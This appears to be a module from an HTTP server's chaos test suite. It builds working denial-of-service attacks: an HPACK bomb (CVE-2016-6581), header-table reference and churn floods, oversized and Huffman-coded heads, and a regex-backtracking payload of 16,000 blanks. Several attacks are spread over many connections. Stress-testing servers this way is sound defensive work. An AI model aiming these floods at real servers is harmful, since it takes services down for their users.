"""Heads of requests that are small on the wire and large or slow to decode, and heads that are too large."""

import itertools
from collections.abc import Iterator
from functools import partial

from tests.chaos.attack import Target, attack
from tests.chaos.http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    MAX_FRAME_BYTES,
    OPENING,
    again,
    call_block,
    frame,
    integer,
    literal,
    new_streams,
)
from tests.chaos.sending import flood

_MANY_CONNECTIONS = 32
_counter = itertools.count()

# Entries of HPACK's tables as one byte: RFC 7541, section 6.1 and appendix A.
_HOST = b"\xa6"  # static entry 38, `host` without a value, which counts 36 bytes
_NEWEST = b"\xbe"  # the first entry of the dynamic table
_ADD = 0x40  # a literal that is added to the dynamic table
_TABLE_BYTES = 4096
_ENTRY_BYTES = 32  # that each entry counts besides name and value
_LARGE_ENTRY = literal(b"x", b"v" * (_TABLE_BYTES - _ENTRY_BYTES - 1), first=_ADD)
_HUFFMAN = 0x80
_HUFFMAN_ZEROS = bytes(5)  # the character '0' eight times


def _references(target: Target) -> Iterator[bytes]:
    # The new entry keeps a server from recognising a block that it has decoded.
    block = call_block(target) + literal(b"z", b"1", first=_ADD) + _HOST * 850
    return new_streams(frame(HEADERS, END_HEADERS, 1, block), at_once=50)


@attack(
    "hpack-references",
    does="opens calls with 900 one-byte references to HPACK's static table",
    stands_for="RFC 7541, section 7.3; HPACK work",
)
def hpack_references(target: Target) -> None:
    """A reference takes the decoder about a microsecond, and the attacker one byte."""
    flood(target, partial(_references, target))


@attack(
    "hpack-references-32-connections",
    does="the same on 32 connections",
    stands_for="RFC 7541, section 7.3; HPACK work",
)
def hpack_references_on_many_connections(target: Target) -> None:
    """Limits of one connection do not add up to a limit."""
    flood(target, partial(_references, target), connections=_MANY_CONNECTIONS)


@attack(
    "hpack-bomb",
    does="refers to one large entry of HPACK's table 16,000 times a head",
    stands_for="CVE-2016-6581, HPACK bomb",
)
def hpack_bomb(target: Target) -> None:
    """16 KB that decode to 62 MB of fields."""
    first = frame(HEADERS, END_HEADERS, 1, call_block(target) + _LARGE_ENTRY)
    bomb = frame(HEADERS, END_HEADERS, 3, _NEWEST * MAX_FRAME_BYTES)
    flood(target, lambda: iter((OPENING + first + bomb,)))


@attack(
    "hpack-small-bombs",
    does="opens calls that refer to a large entry of HPACK's table three times, and keeps them open",
    stands_for="CVE-2016-6581, HPACK bomb",
)
def hpack_small_bombs(target: Target) -> None:
    """Below the limits of one head, so that the heads of many streams add up."""
    opening = OPENING + frame(HEADERS, END_HEADERS, 1, call_block(target) + _LARGE_ENTRY)
    head = frame(HEADERS, END_HEADERS, 1, call_block(target) + _NEWEST * 3)
    flood(target, partial(new_streams, head, first=3, opening=opening))


@attack(
    "hpack-table-churn",
    does="opens calls that add entries to HPACK's table and resize it",
    stands_for="RFC 7541, sections 4.3 and 6.3",
)
def hpack_table_churn(target: Target) -> None:
    """Each addition evicts others, and nothing about an earlier head can be reused."""
    resize = integer(0, 5, 0x20) + integer(_TABLE_BYTES, 5, 0x20)
    entries = b"".join(literal(b"k%d" % number, b"v", first=_ADD) for number in range(90))
    block = resize + call_block(target) + entries
    flood(target, partial(new_streams, frame(HEADERS, END_HEADERS, 1, block), at_once=50))


@attack(
    "huffman-heads",
    does="opens calls with 13,000 characters of Huffman code",
    stands_for="RFC 7541, section 5.2",
)
def huffman_heads(target: Target) -> None:
    """Decoding goes bit by bit, or by a table."""
    coded = _HUFFMAN_ZEROS * 1640
    field = b"\x00\x01h" + integer(len(coded), 7, _HUFFMAN) + coded
    head = frame(HEADERS, END_HEADERS, 1, call_block(target) + field)
    flood(target, partial(new_streams, head, at_once=20))


@attack(
    "many-fields",
    does="opens calls with 400 header fields of one character",
    stands_for="CWE-770; RFC 9113, section 10.5.1",
)
def many_fields(target: Target) -> None:
    """Each field counts 34 bytes, so that a limit in bytes alone allows many."""
    block = call_block(target) + literal(b"a", b"b") * 400
    flood(target, partial(new_streams, frame(HEADERS, END_HEADERS, 1, block), at_once=50))


@attack(
    "huge-heads",
    does="opens calls with heads of 200 KB in CONTINUATION frames",
    stands_for="RFC 9113, section 10.5.1",
)
def huge_heads(target: Target) -> None:
    """Thirteen full frames, of one field each."""
    field = literal(b"x", b"v" * (MAX_FRAME_BYTES - 6))
    head = frame(HEADERS, 0, 1, call_block(target))
    head += frame(CONTINUATION, 0, 1, field) * 12 + frame(CONTINUATION, END_HEADERS, 1, field)
    flood(target, partial(new_streams, head, at_once=1))


@attack(
    "huge-heads-http1",
    does="sends HTTP/1.1 heads that never end",
    stands_for="RFC 9112, section 3",
    is_http1=True,
)
def huge_heads_http1(target: Target) -> None:
    """Long and short header lines."""
    start = b"POST / HTTP/1.1\r\nhost: chaos\r\n"
    flood(target, partial(again, b"a: b\r\n" * 1000 + b"x: " + b"y" * 1000 + b"\r\n", opening=start))


@attack(
    "blanks-http1",
    does="sends HTTP/1.1 heads and trailers of 16,000 blanks before a NUL",
    stands_for="CWE-1333, inefficient regular expression",
    is_http1=True,
)
def blanks_http1(target: Target) -> None:
    """A parser that divides the blanks between two patterns tries every way to do so."""
    start = b"POST / HTTP/1.1\r\nhost: chaos\r\n"
    line = b"a:" + b" " * 16_000 + b"\0\r\n\r\n"
    chunked = start + b"transfer-encoding: chunked\r\n\r\n"
    requests = (start + line, chunked + b"0\r\n" + line, chunked + b"1;" + line[:-5] + b"\n\r\n")
    flood(target, lambda: iter(requests[next(_counter) % 3 :][:1]), connections=_MANY_CONNECTIONS)


@attack(
    "many-fields-http1",
    does="sends whole HTTP/1.1 heads of 200 KB with 50,000 fields",
    stands_for="CWE-770, allocation without limits",
    is_http1=True,
)
def many_fields_http1(target: Target) -> None:
    """A limit on incomplete heads does not see them."""
    head = b"POST / HTTP/1.1\r\nhost: chaos\r\n" + b"a:\r\n" * 50_000 + b"\r\n"
    flood(target, lambda: iter((head,)), connections=_MANY_CONNECTIONS)


@attack(
    "pipelined-http1",
    does="sends HTTP/1.1 requests without waiting for answers",
    stands_for="RFC 9112, section 9.3.2",
    is_http1=True,
)
def pipelined_http1(target: Target) -> None:
    """Answers are read, so that only work limits it."""
    request = b"GET / HTTP/1.1\r\nhost: chaos\r\n\r\n"
    flood(target, partial(again, request, opening=request))
